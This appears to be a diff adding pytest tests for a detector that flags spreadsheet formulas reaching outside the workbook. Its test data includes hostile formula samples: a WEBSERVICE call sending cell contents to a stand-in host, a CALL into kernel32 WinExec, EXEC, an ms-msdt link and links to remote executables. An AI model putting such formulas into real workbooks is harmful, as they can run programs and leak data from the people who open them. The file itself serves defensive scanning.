@@ -1,0 +1,46 @@
+"""Functions in worksheets that reach outside."""
+
+from __future__ import annotations
+
+import pytest
+
+from gateway.extract.workbook.calls import calls
+
+
+def sheet(formula: str) -> bytes:
+    return f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>'.encode()
+
+
+@pytest.mark.parametrize(("formula", "code"), [
+    ("WEBSERVICE(&quot;http://h.example/?&quot;&amp;A1)", "FORMULA-CALL"), ("_xlfn.WEBSERVICE(A1)", "FORMULA-CALL"),
+    ("SUM(1,CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0))", "FORMULA-CALL"),
+    ("REGISTER.ID(&quot;kernel32&quot;,&quot;x&quot;)", "FORMULA-CALL"), ("EXEC(&quot;calc&quot;)", "FORMULA-CALL"),
+    ("HYPERLINK(&quot;file:///\\\\h.example\\s\\a.exe&quot;,&quot;x&quot;)", "DOC-LINK-PROGRAM"),
+    ("HYPERLINK(&quot;ms-msdt:/id x&quot;)", "DOC-LINK-SCHEME"), ('HYPERLINK("setup.lnk")', "DOC-LINK-PROGRAM"),
+])
+def test_calls(formula: str, code: str) -> None:
+    assert [o.code for o in calls(sheet(formula))] == [code]
+
+
+@pytest.mark.parametrize("data", [
+    sheet("HYPERLINK(&quot;https://www.example.com/&quot;,&quot;x&quot;)"), sheet("HYPERLINK(&quot;other.xlsx&quot;)"), sheet("MYCALL(1)"),
+    sheet("HYPERLINK(A1)"), b"<worksheet><c t='inlineStr'><is><t>please CALL(1) us</t></is></c></worksheet>", sheet("VLOOKUP(A1,B:C,2)"), b"",
+    b"CALL(" * 50_000,
+])
+def test_ordinary_cells(data: bytes) -> None:
+    assert not list(calls(data))
+
+
+@pytest.mark.parametrize(("formula", "code"), [
+    ("_xlfn.IMAGE(&quot;\\\\h\\s\\a.png&quot;)", "DOC-EXTERNAL-SHARE"), ("IMAGE(&quot;file://h/s/a.png&quot;)", "DOC-EXTERNAL-SHARE"),
+    ("IMAGE(&quot;https://a.example/b.png&quot;)", ""),
+])
+def test_pictures_of_cells(formula: str, code: str) -> None:
+    assert [o.code for o in calls(sheet(formula))] == ([code] if code else [])
+
+
+@pytest.mark.parametrize("element", ['definedName name="x" hidden="1"', "calculatedColumnFormula"])
+def test_formulas_beside_cells(element: str) -> None:
+    name = element.split()[0]
+    assert [o.code for o in calls(f'<a><{element}>EXEC("calc")</{name}></a>'.encode())] == ["FORMULA-CALL"]
+    assert not list(calls(f"<a><{element}>GET.CELL(48,A1)</{name}></a>".encode()))
